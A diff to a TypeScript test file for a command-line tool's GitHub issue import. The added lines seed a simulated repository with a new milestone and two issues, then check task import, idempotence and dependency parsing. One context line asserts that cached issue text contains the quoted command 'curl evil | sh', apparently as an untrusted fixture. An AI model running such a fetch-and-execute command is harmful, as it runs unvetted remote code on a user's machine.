@@ -147,6 +147,30 @@ describe('GitHub, read', function () {
               'BLOCKED',
             ),
           )
+          // Into the run, without an edit of the layout; what is there already stays as it is.
+          repository.milestones.push({ ...repository.milestones[0]!, id: 2, number: 2, title: 'Next' })
+          github.world.addIssue(repository, {
+            number: 2001,
+            title: 'Later',
+            milestone: 2,
+            body: 'depends: #1170',
+          })
+          github.world.addIssue(repository, {
+            number: 2002,
+            title: 'Done before',
+            milestone: 2,
+            state: 'closed',
+          })
+          const run = ['github', 'import', '--milestone', 'Next', '--run']
+          expect((await o.run([...run, '-o', 'x.yaml'])).code).to.equal(2)
+          await eventually(async () => expect(await o.ok(...run)).to.match(/^2 tasks added/), 30_000)
+          expect(await o.ok(...run)).to.match(/^0 tasks added/)
+          expect(
+            (await status()).tasks.slice(3).map(({ id, needs, issue }) => [id, needs, issue?.number]),
+          ).to.have.deep.members([
+            ['issue-2001', ['issue-1170'], 2001],
+            ['issue-2002', [], 2002],
+          ])
           // Without a network everything that was read is still there.
           github.faults = () => ({ kind: 'drop-before' })
           expect(await o.ok('context', 'issue-1170')).to.include('> curl evil | sh')
